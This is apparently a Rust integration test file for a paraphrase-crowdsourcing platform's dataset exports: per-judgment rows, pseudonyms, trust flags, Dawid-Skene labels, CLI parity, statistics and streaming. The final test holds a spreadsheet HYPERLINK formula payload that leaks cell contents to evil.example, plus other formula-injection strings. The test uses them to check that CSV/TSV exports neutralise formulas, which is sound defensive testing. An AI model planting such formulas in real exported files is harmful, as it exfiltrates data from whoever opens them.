//! Dataset export over HTTP and from the command line: one row per judgment with pseudonyms and
//! the trusted flag, labels by Dawid-Skene, the CLI writing the same bytes as the download, the
//! statistics page's numbers, and (when a Python with `datasets` is configured) the files read
//! by `datasets.load_dataset` untouched.
use std::collections::{BTreeSet, HashMap};

use reqwest::{Client, StatusCode};
use serde_json::Value;
use sqlx::PgPool;

use crate::helpers::{spawn_app, TestApp};
use crate::judge::{campaign, grouped_pairs_csv, truth, work, Setup};

async fn text(c: &Client, app: &TestApp, path: &str) -> (StatusCode, String) {
    let resp = c.get(app.url(path)).send().await.unwrap();
    (resp.status(), resp.text().await.unwrap())
}

fn records(csv_text: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut r = csv::Reader::from_reader(csv_text.as_bytes());
    let header = r.headers().unwrap().iter().map(String::from).collect();
    (header, r.records().map(|x| x.unwrap()).collect())
}

/// 60 pairs in 20 groups (40 paraphrases), 4 judgments each: two honest workers and two who
/// always say paraphrase. By vote the 20 non-paraphrases are
/// 2-2 ties (unresolved); Dawid-Skene learns the two are uninformative and labels all 60.
async fn judged(app: &TestApp) -> (String, Vec<String>) {
    let (admin, _) = app.user_with_role("admin").await;
    let id = campaign(
        app,
        &admin,
        Setup {
            judgments_per_pair: 4,
            ..Setup::pairs(&grouped_pairs_csv())
        },
    )
    .await;
    let mut workers = Vec::new();
    for honest in [true, true, false, false] {
        let (c, name) = app.annotator().await;
        work(app, &c, &id, usize::MAX, |t| {
            if honest {
                truth(t)
            } else {
                true
            }
        })
        .await;
        workers.push(name);
    }
    (id, workers)
}

#[sqlx::test(migrations = "../migrations")]
async fn judgments_export_with_pseudonyms_and_trust_and_dawid_skene_labels_what_votes_cannot(
    pool: PgPool,
) {
    let app = spawn_app(pool.clone()).await;
    let (id, workers) = judged(&app).await;
    let (researcher, _) = app.user_with_role("researcher").await;

    // By vote: the 20 ties are left out, or kept with an empty label.
    let (_, csv_text) = text(&researcher, &app, &format!("/export/judge/{id}")).await;
    let (_, rows) = records(&csv_text);
    assert_eq!(rows.len(), 40);
    assert!(rows.iter().all(|r| &r[5] == "1" && r[2].contains("[P]")));
    let (_, csv_text) = text(
        &researcher,
        &app,
        &format!("/export/judge/{id}?unresolved=keep"),
    )
    .await;
    let (_, rows) = records(&csv_text);
    assert_eq!(rows.iter().filter(|r| r[5].is_empty()).count(), 20);

    // By Dawid-Skene: every pair labelled, each as its truth.
    let (status, csv_text) = text(
        &researcher,
        &app,
        &format!("/export/judge/{id}?labels=dawid_skene"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let (_, rows) = records(&csv_text);
    assert_eq!(rows.len(), 60);
    for r in &rows {
        let expected = if r[2].contains("[P]") { "1" } else { "0" };
        assert_eq!(&r[5], expected, "{r:?}");
    }

    // One row per judgment: 240, pseudonymous workers (never the user name), seconds, time.
    let (status, csv_text) = text(
        &researcher,
        &app,
        &format!("/export/judge/{id}?rows=judgments"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let (header, rows) = records(&csv_text);
    assert_eq!(
        header,
        [
            "pair_id",
            "sentence1",
            "sentence2",
            "worker",
            "label",
            "seconds",
            "time",
            "trusted",
            "gold",
            "group",
            "split"
        ]
    );
    assert_eq!(rows.len(), 240);
    let pseudonyms: BTreeSet<&str> = rows.iter().map(|r| r.get(3).unwrap()).collect();
    assert_eq!(pseudonyms.len(), 4);
    assert!(pseudonyms
        .iter()
        .all(|p| p.starts_with('W') && p.len() == 9));
    for name in &workers {
        assert!(
            !csv_text.contains(name.as_str()),
            "user names stay out of exports"
        );
    }
    for r in &rows {
        assert!(r[5].parse::<f64>().unwrap() >= 0.0);
        assert!(
            time::OffsetDateTime::parse(&r[6], &time::format_description::well_known::Rfc3339)
                .is_ok()
        );
        assert_eq!((&r[7], &r[8]), ("1", "0"));
    }
    // Each pair's judgments are in one part, and parts agree with the pair export's.
    let (_, pair_csv) = text(
        &researcher,
        &app,
        &format!("/export/judge/{id}?labels=dawid_skene&seed=5"),
    )
    .await;
    let (_, pair_rows) = records(&pair_csv);
    let part_of: HashMap<String, String> = pair_rows
        .iter()
        .map(|r| (r[0].to_owned(), r[9].to_owned()))
        .collect();
    let (_, csv_text) = text(
        &researcher,
        &app,
        &format!("/export/judge/{id}?rows=judgments&seed=5"),
    )
    .await;
    let (_, rows) = records(&csv_text);
    assert!(rows.iter().all(|r| part_of[&r[0]] == r[10]));

    // Untrusted judgments (a worker set aside): left out unless asked for, then flagged.
    let spammer =
        sqlx::query_scalar::<_, uuid::Uuid>("select app_user_id from app_user where username = $1")
            .bind(&workers[3])
            .fetch_one(&pool)
            .await
            .unwrap();
    sqlx::query("update judge_judgment set trusted = false where app_user_id = $1")
        .bind(spammer)
        .execute(&pool)
        .await
        .unwrap();
    let (_, csv_text) = text(
        &researcher,
        &app,
        &format!("/export/judge/{id}?rows=judgments"),
    )
    .await;
    assert_eq!(records(&csv_text).1.len(), 180);
    let resp = researcher
        .get(app.url(&format!(
            "/export/judge/{id}?rows=judgments&untrusted=keep&format=jsonl"
        )))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["x-paracrowd-rows"], "240");
    let lines: Vec<Value> = resp
        .text()
        .await
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 240);
    assert_eq!(lines.iter().filter(|l| l["trusted"] == false).count(), 60);

    // Options that do not fit the rows are refused with the field named.
    let (status, message) = text(
        &researcher,
        &app,
        &format!("/export/judge/{id}?rows=judgments&format=msrp"),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(message.contains("format"), "{message}");
    let (status, _) = text(&researcher, &app, &format!("/export/apt/{id}")).await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "a judging campaign is not an APT one"
    );
    app.stop().await;
}

#[sqlx::test(migrations = "../migrations")]
async fn the_cli_writes_the_same_file_as_the_download_and_refuses_unknown_options(pool: PgPool) {
    let app = spawn_app(pool.clone()).await;
    let (id, _) = judged(&app).await;
    let (researcher, _) = app.user_with_role("researcher").await;
    let dir = tempfile::tempdir().unwrap();
    for options in [
        vec!["labels=dawid_skene", "split=train", "seed=3"],
        vec!["rows=judgments", "format=jsonl"],
        vec!["format=msrp", "unresolved=keep"],
    ] {
        let out = dir.path().join("out");
        let query = server::export_cmd::parse_options(&options).unwrap();
        let written = server::export_cmd::write(
            &pool,
            id.parse::<app::domain::CampaignId>().unwrap(),
            &query,
            out.to_str().unwrap(),
            false,
        )
        .await
        .unwrap();
        let file = std::fs::read_to_string(&out).unwrap();
        let (_, download) = text(
            &researcher,
            &app,
            &format!("/export/judge/{id}?{}", options.join("&")),
        )
        .await;
        assert_eq!(file, download, "{options:?}");
        assert_eq!(written.bytes, file.len() as u64);
        assert!(written.rows_read >= 60);
    }
    let e = server::export_cmd::parse_options(&["colour=blue"]).unwrap_err();
    assert!(e.to_string().contains("unknown option"), "{e}");
    assert!(server::export_cmd::parse_options(&["split"]).is_err());
    let query = server::export_cmd::parse_options(&["format=xlsx"]).unwrap();
    let e = server::export_cmd::write(
        &pool,
        id.parse::<app::domain::CampaignId>().unwrap(),
        &query,
        "-",
        false,
    )
    .await
    .unwrap_err();
    assert!(e.to_string().contains("format must be one of"), "{e}");
    app.stop().await;
}

#[sqlx::test(migrations = "../migrations")]
async fn the_statistics_page_counts_each_split(pool: PgPool) {
    let app = spawn_app(pool.clone()).await;
    let (id, _) = judged(&app).await;
    let (researcher, _) = app.user_with_role("researcher").await;
    let resp = app
        .call(
            &researcher,
            "research/export_view",
            &[
                ("campaign_id", &id),
                ("query[labels]", "dawid_skene"),
                ("query[seed]", "7"),
            ],
        )
        .await;
    let status = resp.status();
    let body = resp.text().await.unwrap();
    assert!(status.is_success(), "{status}: {body}");
    let v: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        (v["pairs"].as_i64(), v["judgments"].as_i64()),
        (Some(60), Some(240))
    );
    let parts: HashMap<String, Value> = v["parts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p[0].as_str().unwrap().to_owned(), p[1].clone()))
        .collect();
    let all = &parts["all"];
    assert_eq!(all["pairs"], 60);
    assert_eq!(all["paraphrase_pairs"], 40);
    assert_eq!(all["groups"], 20);
    assert!((all["paraphrase_percent"].as_f64().unwrap() - 200.0 / 3.0).abs() < 1e-9);
    // Every pair has its own two sentences: 120 unique, and no source sentence has two
    // paraphrases.
    assert_eq!(all["unique_sentences"], 120);
    assert_eq!(all["multi_reference_percent"], 0.0);
    let sum = |k: &str| -> u64 {
        ["train", "dev", "test"]
            .iter()
            .map(|p| parts[*p][k].as_u64().unwrap())
            .sum()
    };
    assert_eq!(sum("pairs"), 60);
    assert_eq!(sum("groups"), 20, "no group in two parts");
    // Dawid-Skene labels every judged pair (the page says what is left out).
    assert_eq!(
        v["unlabelled"],
        serde_json::json!({"short_of_judgments": 0, "unresolved": 0})
    );
    assert_eq!(
        (
            parts["dev"]["pairs"].as_u64(),
            parts["test"]["pairs"].as_u64()
        ),
        (Some(6), Some(6))
    );

    // The page renders the table; annotators are refused.
    let page = app
        .get(
            &researcher,
            &format!("/research/export/{id}?labels=dawid_skene"),
        )
        .await;
    assert_eq!(page.status(), StatusCode::OK);
    let html = page.text().await.unwrap();
    assert!(html.contains("data-testid=\"export-stats\""), "{html}");
    assert!(html.contains(&format!("formaction=\"/export/judge/{id}\"")));
    assert!(
        !html.contains("export-unlabelled"),
        "nothing left out: {html}"
    );
    // By vote the 20 ties have no label, and the page says why their rows are missing.
    let resp = app
        .call(&researcher, "research/export_view", &[("campaign_id", &id)])
        .await;
    assert_eq!(resp.status(), StatusCode::OK);
    let by_vote: Value = serde_json::from_str(&resp.text().await.unwrap()).unwrap();
    assert_eq!(
        by_vote["unlabelled"],
        serde_json::json!({"short_of_judgments": 0, "unresolved": 20})
    );
    let html = app
        .get(&researcher, &format!("/research/export/{id}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        html.contains("40 of 60 pairs have a label by vote: 0 have fewer trusted judgments than each pair needs and 20 are unresolved"),
        "{html}"
    );
    let (annotator, _) = app.annotator().await;
    let resp = app
        .call(&annotator, "research/export_view", &[("campaign_id", &id)])
        .await;
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    app.stop().await;
}

/// `datasets.load_dataset("csv" / "json", ...)` reads the exports untouched: run when
/// `PARACROWD_DATASETS_PYTHON` names a Python with `datasets` installed (the test command
/// installs one when Python is present); otherwise skipped with a message, or failed when
/// `PARACROWD_REQUIRE_DATASETS=1`.
#[sqlx::test(migrations = "../migrations")]
async fn python_datasets_loads_the_csv_and_json_lines_untouched(pool: PgPool) {
    let Some(python) = std::env::var("PARACROWD_DATASETS_PYTHON")
        .ok()
        .filter(|p| !p.is_empty())
    else {
        assert!(
            std::env::var("PARACROWD_REQUIRE_DATASETS").as_deref() != Ok("1"),
            "PARACROWD_REQUIRE_DATASETS=1 but PARACROWD_DATASETS_PYTHON is not set"
        );
        eprintln!(
            "skipped: set PARACROWD_DATASETS_PYTHON to a Python with `datasets` to run this check"
        );
        return;
    };
    let app = spawn_app(pool.clone()).await;
    let (id, _) = judged(&app).await;
    let (researcher, _) = app.user_with_role("researcher").await;
    let dir = tempfile::tempdir().unwrap();
    let mut expected = Vec::new();
    for (name, query, kind, rows) in [
        ("pairs.csv", "labels=dawid_skene", "csv", 60),
        ("pairs.jsonl", "labels=dawid_skene&format=jsonl", "json", 60),
        ("judgments.csv", "rows=judgments", "csv", 240),
        (
            "judgments.jsonl",
            "rows=judgments&format=jsonl",
            "json",
            240,
        ),
    ] {
        let (_, body) = text(&researcher, &app, &format!("/export/judge/{id}?{query}")).await;
        std::fs::write(dir.path().join(name), body).unwrap();
        expected.push((name, kind, rows));
    }
    let script = r#"
import json, sys
from datasets import load_dataset
out = {}
for name, kind in json.loads(sys.argv[2]):
    d = load_dataset(kind, data_files=sys.argv[1] + "/" + name, split="train")
    out[name] = {"rows": d.num_rows, "columns": d.column_names, "first": {k: str(v) for k, v in d[0].items()}}
print(json.dumps(out))
"#;
    let files: Vec<(&str, &str)> = expected.iter().map(|(n, k, _)| (*n, *k)).collect();
    let output = std::process::Command::new(&python)
        .args([
            "-c",
            script,
            dir.path().to_str().unwrap(),
            &serde_json::to_string(&files).unwrap(),
        ])
        .env("HF_DATASETS_OFFLINE", "1")
        .env("HF_HUB_OFFLINE", "1")
        .env("HF_HOME", dir.path().join("hf"))
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let got: Value = serde_json::from_slice(
        output
            .stdout
            .rsplit(|b| *b == b'\n')
            .find(|l| !l.is_empty())
            .unwrap(),
    )
    .unwrap();
    for (name, _, rows) in &expected {
        assert_eq!(got[name]["rows"], *rows, "{name}: {got}");
    }
    let columns = |name: &str| -> Vec<String> {
        got[name]["columns"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c.as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(columns("pairs.csv"), columns("pairs.jsonl"));
    assert_eq!(columns("judgments.csv"), columns("judgments.jsonl"));
    assert!(got["pairs.csv"]["first"]["sentence1"]
        .as_str()
        .unwrap()
        .contains(", first \"sentence\" one."));
    app.stop().await;
}

/// Constant memory: the export reads from the database only as fast as its reader takes chunks
/// (a bounded channel between the cursor and the writer). A reader that stops after the first
/// chunk holds the export where it is, far short of the campaign; reading on gets every row.
#[sqlx::test(migrations = "../migrations")]
async fn a_slow_reader_holds_the_export_back_instead_of_it_piling_up_in_memory(pool: PgPool) {
    use futures::StreamExt;
    use std::sync::atomic::Ordering;

    let app = spawn_app(pool.clone()).await;
    let (admin, _) = app.user_with_role("admin").await;
    let mut pairs = String::from("sentence1,sentence2,group\n");
    for i in 0..5000 {
        pairs.push_str(&format!(
            "Sentence number {i} of the first kind.,Sentence number {i} of another kind.,g{}\n",
            i / 4
        ));
    }
    let id = campaign(&app, &admin, Setup::pairs(&pairs)).await;
    let query = server::export_cmd::parse_options(&["unresolved=keep"]).unwrap();
    let export = app::service::export::open(
        &pool,
        id.parse::<app::domain::CampaignId>().unwrap(),
        &query,
    )
    .await
    .unwrap();
    assert_eq!(export.source_rows, 5000);
    let mut body = export.body;
    let first = body.next().await.unwrap().unwrap();
    let after_first = export.rows_read.load(Ordering::SeqCst);
    // The reader must come to rest while nobody takes the next chunk.
    let after_wait = crate::helpers::settled(
        "rows read",
        std::time::Duration::from_millis(500),
        std::time::Duration::from_secs(10),
        || async { export.rows_read.load(Ordering::SeqCst) },
    )
    .await;
    assert_eq!(
        after_wait, after_first,
        "nothing is read while the reader waits"
    );
    assert!(
        after_first < 2000,
        "the first chunk took {after_first} rows of 5000"
    );
    let mut bytes = first.len();
    let mut lines = first.iter().filter(|b| **b == b'\n').count();
    while let Some(chunk) = body.next().await {
        let chunk = chunk.unwrap();
        assert!(
            chunk.len() <= 64 * 1024 + 512,
            "chunks stay about 64 KiB: {}",
            chunk.len()
        );
        bytes += chunk.len();
        lines += chunk.iter().filter(|b| **b == b'\n').count();
    }
    assert_eq!(lines, 5001, "header and every pair");
    assert_eq!(export.rows_read.load(Ordering::SeqCst), 5000);
    assert!(bytes > 5000 * 60);
    app.stop().await;
}

/// The characters that make a spreadsheet run a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every cell either starts harmlessly or is a plain number (a score such as `-0.25`).
fn assert_spreadsheet_safe(cells: &[&str], context: &str) {
    for cell in cells {
        assert!(
            !cell.starts_with(FORMULA_STARTS) || cell.parse::<f64>().is_ok(),
            "{context}: the cell {cell:?} would run as a formula"
        );
    }
}

/// An annotator's Check text or a pair's sentence that starts like a formula
/// reaches CSV and TSV downloads (and the CLI) with a leading `'`, unless
/// `spreadsheet_safe=false`; JSON lines carry the exact text.
#[sqlx::test(migrations = "../migrations")]
async fn formulas_reach_csv_and_tsv_files_neutralised_unless_exact_text_is_asked_for(pool: PgPool) {
    let app = spawn_app(pool.clone()).await;
    let (admin, _) = app.user_with_role("admin").await;
    let (researcher, _) = app.user_with_role("researcher").await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click for the answer")"#;

    // APT: a Check text and a source sentence that start like formulas.
    let apt = crate::apt::campaign(
        &app,
        &admin,
        2000,
        "text\torigin\n@SUM(A1:A9) alpha beta gamma delta\tmsrp\n",
    )
    .await;
    let (worker, _) = app.annotator().await;
    let task = crate::apt::next(&app, &worker, &apt).await;
    let source_id = task["Write"]["source_id"].as_str().unwrap().to_owned();
    for text in [hyperlink, "-2+3 alpha beta gamma", "+plus one two three"] {
        let resp = crate::apt::check(&app, &worker, &apt, &source_id, text).await;
        assert_eq!(resp.status(), StatusCode::OK, "{text}");
    }
    let download = |kind: &'static str, id: String, q: &'static str| {
        let researcher = researcher.clone();
        let url = app.url(&format!("/export/{kind}/{id}{q}"));
        async move {
            let resp = researcher.get(url).send().await.unwrap();
            (resp.status(), resp.text().await.unwrap())
        }
    };
    let (status, aph) = download("apt", apt.clone(), "").await;
    assert_eq!(status, StatusCode::OK);
    let rows: Vec<Vec<&str>> = aph
        .lines()
        .skip(1)
        .map(|l| l.split('\t').collect())
        .collect();
    assert_eq!(rows.len(), 3);
    for row in &rows {
        assert_spreadsheet_safe(row, "aph");
        assert_eq!(row[5], "'@SUM(A1:A9) alpha beta gamma delta");
    }
    let candidates: BTreeSet<&str> = rows.iter().map(|r| r[6]).collect();
    assert!(
        candidates.contains(format!("'{hyperlink}").as_str()),
        "{aph}"
    );

    let (_, csv_text) = download("apt", apt.clone(), "?format=csv").await;
    let (header, rows) = records(&csv_text);
    let candidate = header.iter().position(|c| c == "candidate").unwrap();
    for r in &rows {
        assert_spreadsheet_safe(&r.iter().collect::<Vec<_>>(), "csv");
    }
    assert!(rows.iter().any(|r| r[candidate] == format!("'{hyperlink}")));

    let (_, exact) = download("apt", apt.clone(), "?format=csv&spreadsheet_safe=false").await;
    let (_, exact) = records(&exact);
    assert!(
        exact.iter().any(|r| r[candidate] == *hyperlink),
        "exact text"
    );

    let (_, jsonl) = download("apt", apt.clone(), "?format=jsonl").await;
    let texts: BTreeSet<String> = jsonl
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["candidate"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert!(
        texts.contains(hyperlink),
        "JSON lines keep the exact text: {texts:?}"
    );

    let (status, body) = download("apt", apt.clone(), "?spreadsheet_safe=maybe").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(body.contains("spreadsheet_safe"), "{body}");

    // Judging: pair sentences, through the download and the CLI alike.
    let pairs = "sentence1,sentence2\n\
                 \"=1+1 first\",\"+cmd second\"\n\
                 \"@ first\",\"-minus second\"\n\
                 plain first,plain second\n";
    let judge = campaign(
        &app,
        &admin,
        Setup {
            judgments_per_pair: 1,
            ..Setup::pairs(pairs)
        },
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    for (options, safe) in [
        (vec!["unresolved=keep"], true),
        (vec!["unresolved=keep", "spreadsheet_safe=true"], true),
        (vec!["unresolved=keep", "spreadsheet_safe=false"], false),
    ] {
        let out = dir.path().join("pairs.csv");
        let query = server::export_cmd::parse_options(&options).unwrap();
        server::export_cmd::write(
            &pool,
            judge.parse::<app::domain::CampaignId>().unwrap(),
            &query,
            out.to_str().unwrap(),
            false,
        )
        .await
        .unwrap();
        let file = std::fs::read_to_string(&out).unwrap();
        let (_, body) = text(
            &researcher,
            &app,
            &format!("/export/judge/{judge}?{}", options.join("&")),
        )
        .await;
        assert_eq!(
            file, body,
            "the CLI writes what the route sends: {options:?}"
        );
        let (_, rows) = records(&file);
        let firsts: BTreeSet<&str> = rows.iter().map(|r| &r[1]).collect();
        if safe {
            for r in &rows {
                assert_spreadsheet_safe(&r.iter().collect::<Vec<_>>(), "pairs");
            }
            assert!(firsts.contains("'=1+1 first") && firsts.contains("'@ first"));
            assert!(firsts.contains("plain first"));
        } else {
            assert!(firsts.contains("=1+1 first") && firsts.contains("@ first"));
        }
    }
    app.stop().await;
}
